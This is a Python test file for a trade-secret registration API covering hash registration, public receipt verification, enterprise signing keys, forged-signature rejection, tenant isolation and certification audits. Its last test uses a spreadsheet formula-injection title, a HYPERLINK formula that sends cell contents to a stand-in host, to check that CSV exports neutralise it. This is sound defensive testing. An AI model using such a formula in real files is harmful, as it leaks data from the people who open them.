"""p27 over the API: register, verify publicly, enterprise keys, documents, isolation,
certification."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import zipfile

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from ftz.core.kit import signing_keys
from ftz.core.ledger.receipts import verify_receipt
from ftz.practices.trade_secrets.schemas import ItemIn
from ftz.practices.trade_secrets.service import statement_for
from tests.conftest import ApiClients

BASE = "/api/trade-secrets"


def _item(text: str, **extra: object) -> dict[str, object]:
    data = text.encode()
    return {
        "title": text,
        "file_name": f"{text}.bin",
        "size_bytes": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
        "sm3": hashlib.new("sm3", data).hexdigest(),
        "contributors": ["王磊"],
        **extra,
    }


def _register(api: ApiClients, user: str, *texts: str, project: str = "P") -> dict:
    response = api.as_(user).post(
        f"{BASE}/records", json={"project": project, "items": [_item(t) for t in texts]}
    )
    assert response.status_code == 201, response.text
    return response.json()


def test_register_verify_and_duplicates(api: ApiClients) -> None:
    first = _register(api, "ent.a", "设计图 v1", "源代码 v1")
    assert len(first["registered"]) == 2
    again = _register(api, "ent.a", "设计图 v1", "试验报告")
    assert len(again["registered"]) == 1 and len(again["already_registered"]) == 1
    sha = first["registered"][0]["sha256"]
    result = api.anonymous().get(f"{BASE}/verify/{sha}").json()
    assert result["found"] and result["receipt_valid"] and result["signature_valid"]
    assert "宜昌三峡" in result["organization"]
    key = api.anonymous().get("/api/ledger/keys").json()["active"]
    assert verify_receipt(result["receipt"], key).ok
    missing = api.anonymous().get(f"{BASE}/verify/{'0' * 64}").json()
    assert missing["found"] is False
    assert api.anonymous().get(f"{BASE}/verify/xyz").status_code == 422


def test_enterprise_held_key(api: ApiClients) -> None:
    private = Ed25519PrivateKey.generate()
    public = private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    key = api.as_("ent.b").post(f"{BASE}/keys", json={"public_key": public.decode()}).json()
    me = api.as_("ent.b").get("/api/me").json()
    org_id = me["org_id"]
    salt = "ab" * 16
    item = _item("own key", salt=salt)
    message = statement_for(org_id, ItemIn.model_validate(item), salt)
    signed = {**item, "signature": base64.b64encode(private.sign(message)).decode()}
    ok = api.as_("ent.b").post(f"{BASE}/records", json={"key_id": key["key_id"], "items": [signed]})
    assert ok.status_code == 201, ok.text
    forged = {**_item("forged", salt=salt), "signature": signed["signature"]}
    bad = api.as_("ent.b").post(
        f"{BASE}/records", json={"key_id": key["key_id"], "items": [forged]}
    )
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "items.0.signature"
    stolen = api.as_("ent.a").post(
        f"{BASE}/records", json={"key_id": key["key_id"], "items": [signed]}
    )
    assert stolen.status_code == 422


def test_enterprise_held_sm2_key(api: ApiClients) -> None:
    private = signing_keys.generate(signing_keys.SM2)
    hex_public = "04" + private.public.hex()  # as GmSSL prints a public key
    key = api.as_("ent.b").post(f"{BASE}/keys", json={"public_key": hex_public})
    assert key.status_code == 201, key.text
    assert key.json()["algorithm"] == "sm2"
    org_id = api.as_("ent.b").get("/api/me").json()["org_id"]
    salt = "cd" * 16
    item = _item("sm2 signed", salt=salt)
    signature = private.sign(statement_for(org_id, ItemIn.model_validate(item), salt))
    body = {"key_id": key.json()["key_id"], "items": [{**item, "signature": signature}]}
    ok = api.as_("ent.b").post(f"{BASE}/records", json=body)
    assert ok.status_code == 201, ok.text
    checked = api.anonymous().get(f"{BASE}/verify/{item['sha256']}").json()
    assert checked["signature_valid"] is True and checked["receipt_valid"] is True
    forged = {**_item("sm2 forged", salt=salt), "signature": signature}
    body = {"key_id": key.json()["key_id"], "items": [forged]}
    bad = api.as_("ent.b").post(f"{BASE}/records", json=body)
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "items.0.signature"
    off_curve = api.as_("ent.b").post(f"{BASE}/keys", json={"public_key": "04" + "01" * 64})
    assert off_curve.status_code == 422
    assert "SM2 curve" in off_curve.json()["errors"][0]["reason"]


def test_documents_check_offline(api: ApiClients) -> None:
    result = _register(api, "ent.a", "图纸 A", "图纸 B")
    client = api.as_("ent.a")
    record = result["registered"][0]
    pdf = client.get(f"{BASE}/records/{record['id']}/certificate.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    batch = client.get(f"{BASE}/batches/{result['batch_id']}/certificate.pdf")
    assert batch.content.startswith(b"%PDF")
    package = zipfile.ZipFile(io.BytesIO(client.get(f"{BASE}/export.zip").content))
    key = package.read("verifier_key.txt").decode().strip()
    receipts = [n for n in package.namelist() if n.startswith("receipts/")]
    assert len(receipts) == 2
    for name in receipts:
        assert verify_receipt(json.loads(package.read(name)), key).ok
    assert "salt" in package.read("records.csv").decode()


def test_other_enterprises_cannot_see_records(api: ApiClients) -> None:
    result = _register(api, "ent.a", "A 的秘密")
    record, batch = result["registered"][0], result["batch_id"]
    b = api.as_("ent.b")
    for path in (
        f"{BASE}/records/{record['id']}",
        f"{BASE}/records/{record['id']}/receipt",
        f"{BASE}/records/{record['id']}/certificate.pdf",
        f"{BASE}/batches/{batch}/certificate.pdf",
    ):
        assert b.get(path).status_code == 404, path
    assert b.get(f"{BASE}/records").json()["total"] == 0
    assert b.get(f"{BASE}/records", params={"q": record["sha256"]}).json()["total"] == 0
    assert b.get(f"{BASE}/projects").json() == []
    assert b.get(f"{BASE}/contributions").json() == []
    assert "receipts/" not in "".join(
        zipfile.ZipFile(io.BytesIO(b.get(f"{BASE}/export.zip").content)).namelist()
    )
    assert api.as_("hrss.officer").get(f"{BASE}/records").status_code == 403
    assert (
        api.as_("hrss.officer").post(f"{BASE}/records", json={"items": [_item("x")]}).status_code
        == 403
    )


def test_contributions_and_projects(api: ApiClients) -> None:
    client = api.as_("ent.a")
    client.post(
        f"{BASE}/records",
        json={
            "project": "减速器",
            "items": [
                _item("r1", contributors=["王磊", "李娜"]),
                _item("r2", contributors=["王磊"]),
            ],
        },
    )
    rows = {r["name"]: r for r in client.get(f"{BASE}/contributions").json()}
    assert rows["王磊"]["records"] == 2 and rows["李娜"]["records"] == 1
    projects = client.get(f"{BASE}/projects").json()
    assert projects == [{"id": projects[0]["id"], "name": "减速器", "records": 2}]
    only = client.get(f"{BASE}/records", params={"contributor": "李娜"}).json()
    assert [r["title"] for r in only["items"]] == ["r1"]


def test_certification_flow(api: ApiClients) -> None:
    _register(api, "ent.a", "存证一")
    client = api.as_("ent.a")
    opened = client.post(f"{BASE}/certifications").json()
    checklist = api.anonymous().get(f"{BASE}/checklist").json()
    assert len(checklist) == 10
    early = client.post(f"{BASE}/certifications/{opened['id']}/submit")
    assert early.status_code == 422
    answers = {item["code"]: "制度文件第1章" for item in checklist}
    client.put(f"{BASE}/certifications/{opened['id']}/answers", json={"answers": answers})
    assert client.post(f"{BASE}/certifications/{opened['id']}/submit").json()["status"] == (
        "submitted"
    )
    findings = {item["code"]: True for item in checklist}
    findings["TS-03"] = False  # a mandatory item
    wrong_body = api.as_("hrss.officer").post(
        f"{BASE}/certifications/{opened['id']}/audit", json={"findings": findings}
    )
    assert wrong_body.status_code == 403
    # The demo's certification body is part of the p27 demo, so the admin audits here.
    audited = (
        api.as_("admin")
        .post(f"{BASE}/certifications/{opened['id']}/audit", json={"findings": findings})
        .json()
    )
    assert audited["status"] == "rejected"
    assert audited["decision"]["fired"][0]["row_id"] == "CT-MANDATORY"
    assert api.as_("ent.b").get(f"{BASE}/certifications").json() == []


def test_the_package_never_hands_a_spreadsheet_a_formula(api: ApiClients) -> None:
    """A title typed as a formula is written quoted in records.csv, so a spreadsheet shows it;
    records.json keeps it exact for recomputing the commitment."""
    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
    record = _register(api, "ent.a", typed)["registered"][0]
    package = zipfile.ZipFile(io.BytesIO(api.as_("ent.a").get(f"{BASE}/export.zip").content))
    rows = csv.DictReader(io.StringIO(package.read("records.csv").decode()))
    [row] = [r for r in rows if r["record_id"] == record["id"]]
    assert row["title"] == "'" + typed and row["file_name"] == f"'{typed}.bin"
    [exact] = [
        r for r in json.loads(package.read("records.json")) if r["record_id"] == record["id"]
    ]
    assert exact["title"] == typed  # the values the commitment was made over, unquoted
